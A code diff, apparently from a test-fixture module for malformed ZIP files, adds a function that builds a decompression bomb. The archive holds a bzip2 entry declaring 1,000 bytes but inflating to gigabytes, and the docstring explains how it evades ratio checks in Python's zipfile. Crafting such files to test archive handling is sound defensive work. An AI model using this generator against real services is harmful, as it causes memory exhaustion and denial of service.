@@ -123,3 +123,26 @@ def _finish(out: io.BytesIO, entries: list[_Entry], comment: bytes) -> None:
 def fake_end_record(entries: int = 0xFFFF) -> bytes:
     """An end-of-central-directory record claiming `entries`, to hide in a comment."""
     return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, 0, 0, 0)
+
+
+def lying_bzip2(plain: Sequence[tuple[str, bytes]], name: str, inflated: int) -> bytes:
+    """A stored ZIP of `plain` plus one bzip2 entry (method 12) of `inflated` zero bytes whose directories
+    declare it 1,000 bytes: below every ratio check, while zipfile (3.11) hands bzip2 and LZMA data to the
+    decompressor without a size limit (deflate alone is read a chunk at a time), so reading its first
+    chunk inflates all of it at once — about 4 GB for each 4 KB of compressed data."""
+    import bz2
+
+    packed = bz2.compress(bytes(inflated))
+    out = io.BytesIO()
+    entries = []
+    for entry_name, data in plain:
+        raw, flags = _encoded(entry_name)
+        crc = zlib.crc32(data)
+        entries.append(_Entry(raw, flags, 0, crc, len(data), len(data), out.tell()))
+        out.write(_local(raw, flags, 0, crc, len(data), len(data)) + data)
+    raw, flags = _encoded(name)
+    crc = zlib.crc32(bytes(1000))
+    entries.append(_Entry(raw, flags, 12, crc, len(packed), 1000, out.tell()))
+    out.write(_local(raw, flags, 12, crc, len(packed), 1000) + packed)
+    _finish(out, entries, b"")
+    return out.getvalue()
